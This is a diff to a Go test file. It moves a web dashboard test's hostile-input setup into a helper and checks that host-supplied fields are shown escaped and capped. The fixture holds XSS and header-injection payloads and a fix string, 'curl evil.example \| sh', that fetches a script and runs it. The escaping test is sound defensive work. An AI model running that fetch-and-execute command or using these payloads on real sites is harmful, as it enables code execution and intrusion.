@@ -24,8 +24,9 @@ import (
 // evil is what a host would send to be more than text.
 const evil = `<script>alert(1)</script>"'><img src=x onerror=alert(2)>{{.}}` + "\r\nX-Evil: 1\x00\x1b[31m"
 
-// Every field that a host controls is shown as text, and capped.
-func TestPages_HostileText(t *testing.T) {
+// hostileFleet is a host that sends a text in every field that it controls.
+func hostileFleet(t *testing.T, evil string) *harness {
+	t.Helper()
 	r := newHarness(t)
 	long := evil + strings.Repeat("A", 100_000)
 	knock := contacts.AuthFailure{At: r.now, Since: r.now, Count: 3, Kind: wire.Kind(evil), Name: long, From: long, Detail: long}
@@ -54,6 +55,12 @@ func TestPages_HostileText(t *testing.T) {
 		{ID: "outbox.oldest", Title: long, Status: check.Fail, Detail: long, Fix: "on the lab host: curl evil.example | sh"},
 	}}
 	r.write("host-health/lab-01.json", r.json(contacts.Snapshot{Host: "lab-01", ReceivedAt: r.now, Snapshot: rep}))
+	return r
+}
+
+// Every field that a host controls is shown as text, and capped.
+func TestPages_HostileText(t *testing.T) {
+	r := hostileFleet(t, evil)
 	r.start().signIn()
 	for _, path := range []string{
 		"/", "/hosts/lab-01", "/?q=" + "%3Cscript%3Ealert(1)%3C/script%3E",
